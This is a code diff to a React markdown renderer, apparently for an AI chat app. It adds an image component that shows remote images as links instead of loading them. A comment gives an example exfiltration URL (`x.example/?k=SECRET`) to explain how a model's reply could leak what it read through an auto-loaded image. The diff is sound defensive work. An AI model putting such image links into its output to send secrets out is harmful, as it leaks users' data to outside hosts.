@@ -1,4 +1,5 @@
-import { createContext, memo, useContext, useMemo } from 'react';
+import { createContext, memo, useContext, useMemo, type JSX } from 'react';
+import { ImageOff } from 'lucide-react';
 import ReactMarkdown, { type Components, type ExtraProps } from 'react-markdown';
 import remarkGfm from 'remark-gfm';
 import remend from 'remend';
@@ -33,8 +34,46 @@ function Pre({ node }: ExtraProps) {
   return <CodeBlock code={textOf(code).replace(/\n$/, '')} lang={lang} complete={complete} />;
 }
 
+/** Images that load without asking: inline data and this origin's own. */
+function isLocalImage(src: string): boolean {
+  if (src.startsWith('data:image/')) return true;
+  try {
+    return new URL(src, location.href).origin === location.origin;
+  } catch {
+    return false;
+  }
+}
+
+/**
+ * A remote image in a reply is shown as a link, never fetched: its address may carry what the
+ * model read (`![](https://x.example/?k=SECRET)`), and loading it would send it off with no click.
+ */
+function Img({ node: _node, src, alt, ...props }: JSX.IntrinsicElements['img'] & ExtraProps) {
+  if (typeof src === 'string' && isLocalImage(src)) return <img src={src} alt={alt} {...props} />;
+  if (typeof src !== 'string' || !src) return alt ? <span>{alt}</span> : null;
+  let host = src;
+  try {
+    host = new URL(src).host;
+  } catch {
+    // Not a URL: show it as written.
+  }
+  return (
+    <a
+      href={src}
+      target="_blank"
+      rel="noopener noreferrer"
+      title={`Image not loaded (it is on ${host}): ${src}`}
+      className="remote-image"
+    >
+      <ImageOff aria-hidden="true" className="inline size-3.5 align-[-2px]" />{' '}
+      {alt ? `${alt} (image on ${host})` : `Image on ${host}`}
+    </a>
+  );
+}
+
 const components: Components = {
   pre: Pre,
+  img: Img,
   a({ node: _node, href, children, ...props }) {
     return (
       <a href={href} target="_blank" rel="noopener noreferrer" {...props}>
